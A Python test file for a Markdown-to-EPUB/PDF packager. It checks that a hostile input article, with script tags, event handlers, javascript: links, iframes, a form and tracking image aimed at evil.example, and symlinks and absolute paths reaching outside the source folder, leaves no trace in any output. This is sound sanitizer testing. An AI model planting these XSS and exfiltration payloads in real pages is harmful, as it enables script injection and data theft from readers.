"""Hostile and awkward input, end to end: nothing unsafe or outside SOURCE reaches any output file."""

from __future__ import annotations

import os
import struct
import subprocess
import sys
import zipfile
import zlib
from pathlib import Path

import pikepdf

from conftest import book_file, build_into
from validators import epubcheck_problems, pdftotext_pages

SECRET = "TOP-SECRET-OUTSIDE-SOURCE"
ABSOLUTE_SECRET = "TOP-SECRET-AT-AN-ABSOLUTE-PATH"
HOSTILE = """---
title: Hostile
author: Mallory
---

<script>alert('owned')</script>
<p onclick="steal()" onmouseover="steal()">Click me</p>
<a href="javascript:alert(1)">js link</a> <a href="vbscript:msgbox(1)">vb link</a>
<iframe src="https://evil.example/frame"></iframe>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y.swf">
<img src="https://evil.example/track.gif" alt="tracker">
<p style="background:url(https://evil.example/bg.png)">styled</p>
<form action="https://evil.example/collect"><input type="text" name="email"><button>Send</button></form>

![absolute](ABSOLUTE_PATH)

![file url](file://ABSOLUTE_PATH)

<img src="file://ABSOLUTE_PATH" alt="file url in HTML">

![secret](../outside.png)

![linked](linked.png)

[outside](../outside.md)
"""


def png_with_text(text: str) -> bytes:
    """A valid 1x1 PNG that carries text in a tEXt chunk: embedded as it is, the text shows."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 6, 0, 0, 0)  # 1x1, 8-bit RGBA
    pixel = zlib.compress(b"\0\0\0\0\0")  # filter byte, one transparent pixel
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        chunk(kind, data)
        for kind, data in ((b"IHDR", header), (b"tEXt", b"Comment\0" + text.encode()), (b"IDAT", pixel), (b"IEND", b""))
    )


def _pdf_objects_text(obj, parts: list[str]) -> None:
    """Add the names, strings and decoded stream data of a PDF object and the direct objects inside it."""
    if isinstance(obj, pikepdf.Stream):
        try:
            parts.append(obj.read_bytes().decode("latin-1"))
        except pikepdf.PdfError:  # a filter pikepdf cannot undo (DCT, JBIG2): the bytes as stored
            parts.append(obj.read_raw_bytes().decode("latin-1"))
    if isinstance(obj, (pikepdf.Dictionary, pikepdf.Stream)):
        for key, value in obj.items():
            parts.append(key)
            if not getattr(value, "is_indirect", False):  # indirect objects come in their own turn
                _pdf_objects_text(value, parts)
    elif isinstance(obj, pikepdf.Array):
        for value in obj:
            if not getattr(value, "is_indirect", False):
                _pdf_objects_text(value, parts)
    elif isinstance(obj, pikepdf.String):
        parts += [str(obj), bytes(obj).decode("latin-1")]
    elif isinstance(obj, pikepdf.Name):
        parts.append(str(obj))


def pdf_text(path: Path) -> str:
    """A PDF as text: its words as pdftotext reads them, the info dictionary, every string and every stream decoded.

    The raw file is no use: pages, images, fonts, metadata and attachments sit in compressed streams.
    """
    parts = [" ".join(pdftotext_pages(path))]
    with pikepdf.open(path) as pdf:
        parts += [f"{key} {value}" for key, value in pdf.docinfo.items()]
        for obj in pdf.objects:
            _pdf_objects_text(obj, parts)
    return "\n".join(parts)


def all_output_text(dist: Path) -> str:
    """Every byte packager wrote, as text: page, JSON, feed, and the inside of the EPUB and PDF."""
    parts = []
    for path in sorted(dist.rglob("*")):
        if not path.is_file():
            continue
        if path.suffix == ".epub" or path.suffix == ".zip":
            with zipfile.ZipFile(path) as archive:
                parts += [archive.read(n).decode("utf-8", "replace") for n in archive.namelist()]
        elif path.suffix == ".pdf":
            parts.append(pdf_text(path))
        else:
            parts.append(path.read_bytes().decode("utf-8", "replace"))
    return "\n".join(parts)


def test_hostile_article_leaves_no_trace_in_any_output(tmp_path):
    (tmp_path / "outside.png").write_bytes(b"\x89PNG\r\n\x1a\n" + SECRET.encode())
    (tmp_path / "outside.md").write_text(f"# Outside\n\n{SECRET}\n")
    # A real image outside the source, named by its absolute path: one the test knows exists, unlike /etc/hostname.
    absolute = tmp_path / "elsewhere" / "absolute.png"
    absolute.parent.mkdir()
    absolute.write_bytes(png_with_text(ABSOLUTE_SECRET))
    source = tmp_path / "src"
    source.mkdir()
    (source / "hostile.md").write_text(HOSTILE.replace("ABSOLUTE_PATH", str(absolute)))
    (source / "linked.png").symlink_to(tmp_path / "outside.png")
    (source / "sneaky.md").symlink_to(tmp_path / "outside.md")
    result = build_into(source, tmp_path / "dist")
    text = all_output_text(tmp_path / "dist")
    bad_strings = (
        "<script>alert",
        "onclick",
        "onmouseover",
        "javascript:",
        "vbscript:",
        "<iframe",
        "<object",
        "<embed",
        "evil.example",
        "<form",
        "<input",
        SECRET,
        ABSOLUTE_SECRET,
        str(absolute.parent),  # not even the path of a file outside the source
    )
    for bad in bad_strings:
        assert bad not in text, bad
    assert "Click me" in text and "Send" in text  # the words stay, the behaviour goes
    assert epubcheck_problems(book_file(result, ".epub")) == []
    warnings = " ".join(str(w) for w in result.diagnostics.warnings)
    assert "outside the source folder" in warnings and "remote image" in warnings


def test_awkward_files_build_or_fail_clearly(tmp_path):
    source = tmp_path / "src"
    source.mkdir()
    (source / "empty.md").write_text("")
    (source / "front-matter-only.md").write_text("---\ntitle: Only front matter\n---\n")
    (source / "a-b.md").write_text("---\ntitle: Same title\nauthor: A\n---\n\nOne.\n")
    (source / "a_b.md").write_text("---\ntitle: Same title\nauthor: A\n---\n\nTwo.\n")
    (source / "crlf.md").write_bytes("\ufeff---\r\ntitle: Windows\r\n---\r\n\r\nLine one\r\nLine two\r\n".encode())
    (source / "rtl.md").write_text(
        "# \u0645\u0631\u062d\u0628\u0627\n\n\u05e9\u05dc\u05d5\u05dd \u4f60\u597d \U0001f600 e\u0301\n"
    )
    result = build_into(source, tmp_path / "dist")
    slugs = [a.slug for a in result.book.articles]
    assert len(slugs) == len(set(slugs))
    assert {"a-b", "a-b-2"} <= set(slugs)
    assert epubcheck_problems(book_file(result, ".epub")) == []


def test_five_megabyte_article_and_a_thousand_articles_are_checked(tmp_path):
    big = tmp_path / "big"
    big.mkdir()
    paragraph = "Knowledge grows when it is shared with others freely and often. " * 20 + "\n\n"
    (big / "huge.md").write_text("# Huge\n\n" + paragraph * (5_000_000 // len(paragraph)))
    assert (big / "huge.md").stat().st_size >= 4_900_000
    many = tmp_path / "many"
    many.mkdir()
    for i in range(1000):
        (many / f"n{i:04d}.md").write_text(
            f"---\ntitle: Note {i}\nauthor: A\n---\n\nNote number {i}, see [next](n{(i + 1) % 1000:04d}.md).\n"
        )
    for folder, count in ((big, 1), (many, 1000)):
        done = subprocess.run(
            [sys.executable, "-m", "packager", "check", str(folder)],
            capture_output=True,
            text=True,
            timeout=600,
            env=os.environ,
        )
        assert done.returncode == 0, done.stderr
        assert f"{count} articles checked" in done.stderr and "Traceback" not in done.stderr


def test_a_thousand_articles_make_a_valid_epub(tmp_path):
    source = tmp_path / "many"
    source.mkdir()
    (source / "packager.toml").write_text('[book]\ntitle = "Many"\nauthors = ["A"]\n[output]\nformats = ["epub"]\n')
    for i in range(1000):
        (source / f"n{i:04d}.md").write_text(
            f"---\ntitle: Note {i}\n---\n\nNote {i}. [Next](n{(i + 1) % 1000:04d}.md)\n"
        )
    result = build_into(source, tmp_path / "dist")
    assert len([a for a in result.book.articles if not a.is_generated]) == 1000
    assert epubcheck_problems(book_file(result, ".epub")) == []


def test_symlink_loop_is_survived(tmp_path):
    source = tmp_path / "src"
    (source / "sub").mkdir(parents=True)
    (source / "a.md").write_text("# A\n")
    (source / "sub" / "loop").symlink_to(source, target_is_directory=True)
    result = build_into(source, tmp_path / "dist")
    assert [a.source for a in result.book.articles if not a.is_generated] == ["a.md"]
